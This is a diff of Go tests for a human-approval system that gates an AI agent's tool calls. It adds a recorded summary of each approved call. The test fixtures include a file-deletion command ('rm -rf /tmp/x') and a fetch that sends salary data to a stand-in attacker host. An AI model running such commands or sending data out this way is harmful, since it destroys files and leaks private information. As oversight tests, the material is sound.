@@ -25,9 +25,9 @@ func TestApprovalAuthorization(t *testing.T) {
 		wantMsg   string          // private answer
 		edit      string          // substring of the edited message
 	}{
-		{"requester approves", false, apRequester, "a:", &agent.Decision{Approved: true, By: "Alice"}, "", "✅ **Approved by Alice**"},
+		{"requester approves", false, apRequester, "a:", &agent.Decision{Approved: true, By: "Alice", Summary: "rm -rf /tmp/x"}, "", "✅ **Approved by Alice**"},
 		{"requester denies", false, apRequester, "d:", &agent.Decision{By: "Alice"}, "", "❌ **Denied by Alice**"},
-		{"admin approves", false, apAdmin, "a:", &agent.Decision{Approved: true, By: "Root"}, "", "✅ **Approved by Root**"},
+		{"admin approves", false, apAdmin, "a:", &agent.Decision{Approved: true, By: "Root", Summary: "rm -rf /tmp/x"}, "", "✅ **Approved by Root**"},
 		{"admin denies", false, apAdmin, "d:", &agent.Decision{By: "Root"}, "", "❌ **Denied by Root**"},
 		{"stranger approves", false, apStranger, "a:", nil, "Only Alice or an approver can approve this.", ""},
 		{"stranger denies", false, apStranger, "d:", nil, "Only Alice or an approver can approve this.", ""},
@@ -37,7 +37,7 @@ func TestApprovalAuthorization(t *testing.T) {
 		// approve their own risk, but may still call it off.
 		{"mandatory: requester approves", true, apRequester, "a:", nil, "Only an approver can approve this; Alice can deny it.", ""},
 		{"mandatory: requester denies", true, apRequester, "d:", &agent.Decision{By: "Alice"}, "", "❌ **Denied by Alice**"},
-		{"mandatory: approver approves", true, apAdmin, "a:", &agent.Decision{Approved: true, By: "Root"}, "", "✅ **Approved by Root**"},
+		{"mandatory: approver approves", true, apAdmin, "a:", &agent.Decision{Approved: true, By: "Root", Summary: "rm -rf /tmp/x"}, "", "✅ **Approved by Root**"},
 		{"mandatory: stranger denies", true, apStranger, "d:", nil, "Only an approver can approve this; Alice can deny it.", ""},
 	}
 	for _, tt := range tests {
@@ -97,7 +97,7 @@ func TestApprovalPrivate(t *testing.T) {
 		want *agent.Decision // nil: nothing changes
 		told string
 	}{
-		{"author allows", apRequester, "a:", &agent.Decision{Approved: true, By: "Alice"}, "Allowed: the call runs now."},
+		{"author allows", apRequester, "a:", &agent.Decision{Approved: true, By: "Alice", Summary: "web_fetch https://evil.example/?d=salary"}, "Allowed: the call runs now."},
 		{"author denies", apRequester, "d:", &agent.Decision{By: "Alice"}, "Denied: the call does not run."},
 		{"approver allows", apAdmin, "a:", nil, "Only Alice can decide this."},
 		{"approver denies", apAdmin, "d:", nil, "Only Alice can decide this."},
@@ -224,6 +224,9 @@ func TestApprovalConcurrentDeciders(t *testing.T) {
 		}
 		d, err := a.result(t)
 		want := agent.Decision{Approved: strings.HasPrefix(winner.data, "a:"), By: winner.user.Name}
+		if want.Approved {
+			want.Summary = "rm -rf /tmp/x" // what was approved, for the runner to hold the call to
+		}
 		if err != nil || d != want {
 			t.Errorf("Approve = %+v, %v; want the winner's %+v", d, err, want)
 		}
